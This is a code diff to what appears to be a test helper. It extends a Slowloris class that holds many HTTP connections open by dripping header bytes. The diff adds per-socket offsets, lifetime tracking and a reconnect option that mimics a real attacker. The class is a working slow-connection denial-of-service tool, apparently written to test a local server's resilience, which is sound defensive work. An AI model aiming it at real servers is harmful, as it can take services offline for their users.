@@ -80,32 +80,44 @@ def trickling_server(
 
 
 class Slowloris:
-    """``count`` connections to ``host:port``, each sending a request's headers one byte per ``interval``, never ending them."""
+    """``count`` connections to ``host:port``, each sending a request's headers one byte per ``interval``, never ending them.
 
-    def __init__(self, host: str, port: int, count: int, interval: float = 1.0, *, idle: bool = False) -> None:
+    ``idle`` sockets send nothing at all. With ``reconnect``, a socket the server closes is replaced
+    (up to ``count`` replacements in all), as a real attacker would. ``lifetimes`` holds how long
+    each closed socket was held open.
+    """
+
+    def __init__(
+        self, host: str, port: int, count: int, interval: float = 1.0, *, idle: bool = False, reconnect: bool = False
+    ) -> None:
         self.address = (host, port)
         self.count = count
         self.interval = interval
         self.idle = idle
+        self.replacements = count if reconnect else 0
         self.sockets: list[socket.socket] = []
+        self.opened: dict[socket.socket, float] = {}
+        self.lifetimes: list[float] = []
         self.closed_by_server = 0
         self._stop = threading.Event()
         self._thread = threading.Thread(target=self._drip, daemon=True)
 
+    def _connect(self) -> None:
+        sock = socket.create_connection(self.address, timeout=5)
+        sock.setblocking(False)
+        self.sockets.append(sock)
+        self.opened[sock] = time.monotonic()
+
     def open(self) -> None:
-        """Connect every socket (idle ones send nothing at all), then start dripping."""
+        """Connect every socket, then start dripping."""
         for _ in range(self.count):
-            sock = socket.create_connection(self.address, timeout=5)
-            sock.setblocking(False)
-            self.sockets.append(sock)
+            self._connect()
         self._thread.start()
 
     def _drip(self) -> None:
         line = b"GET /v1/projects/p/locations/us-central1/tuningJobs HTTP/1.1\r\nHost: localhost\r\nX-a: "
-        sent = 0
+        sent: dict[socket.socket, int] = {}
         while not self._stop.wait(self.interval):
-            byte = line[sent:sent + 1] or b"a"
-            sent += 1
             for sock in list(self.sockets):
                 try:
                     if sock.recv(1) == b"":  # the server closed it (b"" is EOF; an answer is fine too)
@@ -118,15 +130,22 @@ class Slowloris:
                     continue
                 if self.idle:
                     continue
+                offset = sent.get(sock, 0)
+                sent[sock] = offset + 1
                 try:
-                    sock.send(byte)
+                    sock.send(line[offset:offset + 1] or b"a")
                 except OSError:
                     self._closed(sock)
 
     def _closed(self, sock: socket.socket) -> None:
         self.sockets.remove(sock)
+        self.lifetimes.append(time.monotonic() - self.opened.pop(sock))
         self.closed_by_server += 1
         sock.close()
+        if self.replacements > 0 and not self._stop.is_set():
+            self.replacements -= 1
+            with contextlib.suppress(OSError):
+                self._connect()
 
     @property
     def open_count(self) -> int:
@@ -144,9 +163,11 @@ class Slowloris:
 
 
 @contextlib.contextmanager
-def slowloris(host: str, port: int, count: int, interval: float = 1.0, *, idle: bool = False) -> Iterator[Slowloris]:
+def slowloris(
+    host: str, port: int, count: int, interval: float = 1.0, *, idle: bool = False, reconnect: bool = False
+) -> Iterator[Slowloris]:
     """Hold ``count`` never-finished requests open against ``host:port`` for the block's duration."""
-    attack = Slowloris(host, port, count, interval, idle=idle)
+    attack = Slowloris(host, port, count, interval, idle=idle, reconnect=reconnect)
     try:
         attack.open()
         yield attack
